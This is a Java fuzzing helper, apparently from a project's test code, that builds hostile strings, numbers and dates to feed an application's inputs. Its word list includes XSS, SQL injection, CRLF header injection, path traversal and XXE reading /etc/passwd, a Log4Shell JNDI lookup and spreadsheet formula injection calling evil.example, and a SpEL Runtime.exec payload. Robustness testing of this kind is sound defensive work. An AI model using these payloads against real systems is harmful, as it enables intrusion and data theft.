package org.peygir.hostile;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** Text that somebody might send to break what reads it. */
final class HostileText {
    /** Nothing that came in with these may go out as markup. */
    static final List<String> MARKUP = List.of("<script>alert('pgx')", "<svg onload=pgx", "<img src=x onerror=pgx");

    private static final List<String> WORDS = List.of(
            "",
            " ",
            "\u00a0\u200c\u200b",
            "\0",
            "a\0b",
            "\u202e\u202dgpj.exe\u202c",
            "\u2066\u2067\u2068\u2069",
            "\ufeff\ufffe\uffff",
            "\ud83d\ude00".repeat(50),
            "e" + "\u0301".repeat(400),
            "\ufdfa".repeat(300),
            "ﷺ".repeat(3_000),
            "ي ك ة ۀ أإ ـــ ۱۲۳ ٤٥٦",
            "\r\nSet-Cookie: session=stolen\r\n\r\n<html>",
            "%0d%0aLocation:%20//evil.example",
            "'; drop table cases.case_file; --",
            "' or '1'='1",
            "1) or pg_sleep(0)--",
            "\\'; select 1; --",
            "$$;select 1;$$",
            MARKUP.get(0) + "</script>",
            "\"><" + MARKUP.get(1).substring(1) + ">",
            "'>" + MARKUP.get(2) + ">",
            "javascript:alert('pgx')",
            "//evil.example/x",
            "/\\evil.example",
            "https://evil.example",
            "http://127.0.0.1:22/",
            "http://[::1]/",
            "file:///etc/passwd",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd\0.png",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "${jndi:ldap://evil.example/x}",
            "#{7*7}${7*7}{{7*7}}<%=7*7%>",
            "{0} {1} {2147483648} '{",
            "%s%n%x%100000d",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "{\"$ne\":null}",
            "*)(uid=*",
            "a:b | !c & 'd' <-> :*",
            "\"unclosed",
            "((((((((((",
            ".*(.+)+$",
            "%%%___%%%",
            "null",
            "undefined",
            "true",
            "[]",
            "{}");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "1",
            "00",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "1e309",
            "1.5",
            "0x1F",
            "NaN",
            "Infinity",
            "۱۲",
            "٣",
            "१२",
            "1_000",
            "+5",
            "--5",
            "999999999999999999999999999999999999");

    private static final List<String> TIMES = List.of(
            "1404/12/31",
            "1405/13/01",
            "0000/00/00",
            "9999/99/99",
            "-999999999-01-01",
            "+999999999-12-31",
            "2026-02-30",
            "2026-11-26",
            "1405/09/05",
            "+1000000000-12-31T23:59:59Z",
            "-1000000000-01-01T00:00:00Z",
            "0001-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999999999Z",
            "2026-11-26T25:61:61Z",
            "24:00",
            "99:99",
            "08:00-08:00",
            "17:00-08:00",
            "08:00-12:00,11:00-13:00",
            "۱۴۵۰/۰۱/۰۱",
            "1/1/1",
            "999999999/1/1",
            "2200-01-01T00:00:00+18:00");

    private HostileText() {}

    static String any(Random random) {
        return switch (random.nextInt(20)) {
            case 0, 1, 2 -> pick(NUMBERS, random);
            case 3, 4 -> pick(TIMES, random);
            case 5 -> pick(WORDS, random) + pick(WORDS, random);
            case 6 -> noise(random, 1 + random.nextInt(40));
            case 7 -> long_(random);
            default -> pick(WORDS, random);
        };
    }

    /** Any code unit but those that make up a pair: halves are sent as bytes by {@link #percent}. */
    private static String noise(Random random, int length) {
        StringBuilder made = new StringBuilder();
        for (int i = 0; i < length; i++) made.appendCodePoint(codePoint(random));
        return made.toString();
    }

    private static int codePoint(Random random) {
        int c = random.nextInt(random.nextBoolean() ? 0x800 : 0x110000);
        return c >= 0xd800 && c <= 0xdfff ? 0x202e : c;
    }

    private static String long_(Random random) {
        String unit = pick(List.of("x", "ا", "سلام ", "😀", "\n", "<b>", "a b "), random);
        int most = random.nextInt(12) == 0 ? 600_000 : 20_000;
        return unit.repeat(1 + random.nextInt(most) / unit.length());
    }

    static <T> T pick(List<T> from, Random random) {
        return from.get(random.nextInt(from.size()));
    }

    /** For a form or an address. */
    static String percent(String text) {
        StringBuilder made = new StringBuilder(text.length() * 2);
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            if (b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9') made.append((char) b);
            else if (b == ' ') made.append("%20");
            else made.append('%').append(hex(b >> 4)).append(hex(b));
        }
        return made.toString();
    }

    /** The same, now and then with bytes that are no UTF-8: a lone surrogate, an overlong slash, half a letter. */
    static String spoiled(String text, Random random) {
        String made = percent(text);
        if (random.nextInt(12) == 0)
            made += pick(List.of("%ED%A0%80", "%C0%AF", "%FF%FE", "%D8", "%F4%90%80%80", "%ED%B0%80x"), random);
        if (random.nextInt(40) == 0) made += pick(List.of("%", "%zz", "%u0041", "%4"), random);
        return made;
    }

    private static char hex(int nibble) {
        return Character.toUpperCase(Character.forDigit(nibble & 15, 16));
    }
}
